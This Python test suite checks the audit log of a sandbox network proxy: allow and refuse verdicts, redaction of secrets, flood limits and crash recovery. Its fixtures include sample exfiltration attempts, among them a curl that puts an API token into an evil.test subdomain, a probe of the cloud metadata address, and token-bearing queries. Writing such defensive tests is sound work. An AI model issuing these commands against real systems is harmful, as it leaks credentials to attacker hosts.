"""Every verdict of a door is in the audit log: what was allowed and what was refused, and no more than a disk can take."""

import json
import os
import signal

import doors
from campaigns import Supervisor, campaign, sessions
from doors import PUBLIC, Far, Names, web
from harness import Live, eventually, hotcell
from messages_api import MessagesApi, text

KEY = "sk-ant-api03-0123456789abcdef-of-a-test"
TOKEN = "correct-horse-battery"


def events(project, path="log.jsonl"):
    """Each record; the chain must be whole."""
    ran = hotcell("audit", "verify", "--json", path, cwd=project)
    assert ran.code == 0 and json.loads(ran.out)["problems"] == [], ran
    return [json.loads(line) for line in (project / path).read_text().splitlines()]


def told(found, event="door"):
    return [each for each in found if each["event"] == event]


def run(net, place, options, code, given=None, **more):
    """Without any record but the audit log."""
    arguments = doors.arguments(place, ["--audit", place / "log.jsonl", *options], code, given, log=False)
    return hotcell("run", *arguments, preexec_fn=net.enter, cwd=place, **more)


# ---- what is in it ----


def test_what_was_allowed_and_what_was_refused_is_told_with_its_rule_or_reason(net, place):
    requests = [doors.get("good.test", b"/private/path?token=hunter2hunter2"), doors.get("evil.test", b"/?token=hunter2hunter2"),
                doors.connect("169.254.169.254:80"), b"nonsense\r\n\r\n"]
    with Names(net, {"good.test": [[PUBLIC]]}) as names, Far(net, web, port=80):
        ran = run(net, place, ["--allow", "good.test:80", *names.option], "tell(codes(given))",
                  [each.hex() for each in requests])
    assert ran.code == 0 and json.loads(ran.out)[0] == 200, ran
    found = events(place)
    first, *others = told(found)
    assert (first["verdict"], first["door"], first["name"], first["port"], first["rule"]) == (
        "allowed", "proxy", "good.test", 80, "good.test:80")
    assert [(each["verdict"], each.get("name"), each["port"], each["reason"]) for each in others[:2]] == [
        ("refused", "evil.test", 80, "not on the allowlist"), ("refused", None, 80, "an address, not a name")]
    assert others[2]["verdict"] == "refused" and len(others) == 3
    [start], [end] = told(found, "cell-start"), told(found, "cell-end")
    assert {each["cell"] for each in told(found)} == {start["cell"]}
    assert start["seq"] < first["seq"] and others[2]["seq"] < end["seq"]
    assert (end["doors"]["requests"], end["doors"]["refused"]) == (1, 3)
    log = (place / "log.jsonl").read_text().replace(json.dumps(told(found, "policy")[0]["command"]), "")
    assert "hunter2" not in log and "private/path" not in log
    shown = hotcell("audit", "show", "log.jsonl", cwd=place).out.decode()
    assert "verdict=refused door=proxy name=evil.test port=80 reason=not on the allowlist" in shown, shown


def test_a_name_that_fails_is_told_after_it_was_allowed(net, place):
    with Names(net, {}) as names:
        assert run(net, place, ["--allow", "good.test", *names.option], "tell(codes(given))", [doors.connect("good.test:443").hex()]).code == 0
    assert [each["verdict"] for each in told(events(place))] == ["allowed", "failed"]


ASK = """
    curl -sS "http://anthropic.door/v1/messages?key=$API_TOKEN" -H 'content-type: application/json' \\
        -d '{"model":"claude-test","max_tokens":10,"messages":[{"role":"user","content":"a payload of it"}]}'
    curl -sS "http://anthropic.door/v1/$API_TOKEN"
    curl -sS "https://$API_TOKEN.evil.test/"
    true
    """


def test_no_credential_no_secret_and_no_payload_is_in_it(place):
    with MessagesApi(KEY, [[text("an answer to it")]], echo=True) as api:
        ran = campaign(place, "--name", "s", "--runs", "2", "--workers", "1", "--allow", "good.test", "--secret-door",
                       f"anthropic={api.url},header=x-api-key,env=ANTHROPIC_API_KEY", "--env", f"API_TOKEN={TOKEN}", "--", "sh", "-c", ASK,
                       env={"ANTHROPIC_API_KEY": KEY})
    assert ran.code == 0, ran
    found = events(place, ".hotcell/audit.jsonl")
    assert [(each["run"], each["verdict"], each["door"]) for each in told(found)] == [
        (number, *what) for number in (1, 2) for what in
        (("allowed", "anthropic"), ("allowed", "anthropic"), ("refused", "proxy"))]
    assert [each.get("request") for each in told(found)[:2]][0] == "POST /v1/messages"
    assert all(each["campaign"] == "s" for each in told(found))
    log = (place / ".hotcell/audit.jsonl").read_text()
    for each in (KEY, TOKEN, "payload of it", "answer to it"):
        assert each not in log.replace(json.dumps(told(found, "policy")[0]["command"]), ""), each
    cells = {each["run"]: each["cell"] for each in told(found, "cell-start")}
    for number, folder in sessions(place).items():
        kept = [json.loads(line) for line in (folder / "network.jsonl").read_text().splitlines()]
        mine = [each for each in told(found) if each["run"] == number]
        assert sorted((each["verdict"], each["door"]) for each in kept) == sorted((each["verdict"], each["door"]) for each in mine)
        assert {each["cell"] for each in mine} == {cells[number]}


# ---- too many ----

FLOOD = """
    def knock(name):
        return status(ask(b"CONNECT %s:443 HTTP/1.1\\r\\nHost: %s:443\\r\\n\\r\\n" % (name, name)))
    for number in range(given[0]):
        assert knock(b"evil.test") == 403
    for number in range(given[1]):
        assert knock(b"n%d.evil.test" % number) == 403
    tell("done")
    """


def test_a_flood_of_refusals_is_counted_and_not_written(net, place):
    ran = run(net, place, ["--allow", "good.test", "--timeout", "120s"], FLOOD, [10_050, 80], timeout=150)
    assert ran.code == 0, ran
    found = events(place)
    left_out = told(found, "door-left-out")
    assert len(told(found)) == 10_000 and {each["name"] for each in told(found)} == {"evil.test"}
    assert (left_out[0]["count"], left_out[0]["name"], left_out[0]["verdict"]) == (50, "evil.test", "refused")
    assert [each["count"] for each in left_out[1:-1]] == [1] * 63, "64 sorts are counted one by one"
    assert left_out[-1]["count"] == 17 and "name" not in left_out[-1], left_out[-1]
    assert told(found, "cell-end")[0]["doors"]["refused"] == 10_130
    assert os.stat(place / "log.jsonl").st_size < 5 << 20


def test_what_could_not_be_told_in_time_is_counted(net, place, signals):
    """More than a socket holds, while the supervisor stands still."""
    code = """
    signal("ready")
    wait_for("go")
    for number in range(2000):
        assert status(ask(b"CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n")) == 403
    signal("knocked")
    """
    arguments = doors.arguments(place, ["--audit", place / "log.jsonl", "--allow", "good.test", "--mount", f"{signals}:/signals:rw"],
                                code, log=False)
    with Live(*arguments, json=False, preexec_fn=net.enter) as live:
        assert eventually((signals / "ready").exists, 20)
        os.kill(live.pid, signal.SIGSTOP)
        (signals / "go").touch()
        assert eventually((signals / "knocked").exists, 60)
        os.kill(live.pid, signal.SIGCONT)
        assert live.finish().code == 0
    found = events(place)
    [left_out] = told(found, "door-left-out")
    assert left_out["count"] + len(told(found)) == told(found, "cell-end")[0]["doors"]["refused"] == 2000
    assert len(told(found)) > 0 and left_out["count"] > 0 and left_out["reason"].startswith("not told")


# ---- killed ----


def test_a_supervisor_that_is_killed_leaves_what_was_judged_and_a_log_that_goes_on(place):
    ask = "for i in 1 2 3; do curl -sS https://evil.test/; done; sleep 60"
    log = place / ".hotcell/audit.jsonl"
    with Supervisor(place, "--name", "a", "--runs", "1", "--allow", "good.test", "--plain", "--", "sh", "-c", ask) as it:
        assert eventually(lambda: log.exists() and log.read_text().count('"event":"door"') == 3, 30)
        it.kill(signal.SIGKILL)
        it.finish()
    assert told(events(place, ".hotcell/audit.jsonl"), "cell-end") == []
    with open(log, "ab") as file:
        file.write(log.read_bytes().splitlines()[-1][:70]) # cut off in the middle of a verdict
    ran = campaign(place, "--name", "b", "--runs", "1", "--output", "b", "--allow", "good.test", "--", "sh", "-c", "curl -sS https://evil.test/; true")
    assert ran.code == 0, ran
    verify = json.loads(hotcell("audit", "verify", "--json", cwd=place).out)
    assert verify["problems"] == [] and verify["torn"] == 1
    shown = [json.loads(line) for line in hotcell("audit", "show", "--json", cwd=place).out.splitlines()]
    assert [each["campaign"] for each in told(shown)] == ["a", "a", "a", "b"]


def test_verdicts_before_and_after_doord_was_killed_are_told(net, place, signals):
    code = """
    def knock():
        try:
            return status(ask(b"CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n"))
        except OSError:
            return 0
    assert knock() == 403
    signal("ready")
    wait_for("go")
    while knock() != 403:
        time.sleep(0.05)
    """
    arguments = doors.arguments(place, ["--audit", place / "log.jsonl", "--allow", "good.test", "--mount", f"{signals}:/signals:rw"],
                                code, log=False)
    with Live(*arguments, json=False, preexec_fn=net.enter) as live:
        assert eventually((signals / "ready").exists, 20)
        os.kill(doors.doord_of(live.pid), signal.SIGKILL)
        (signals / "go").touch()
        assert live.finish().code == 0
    found = events(place)
    assert [each["verdict"] for each in told(found)] == ["refused"] * 2
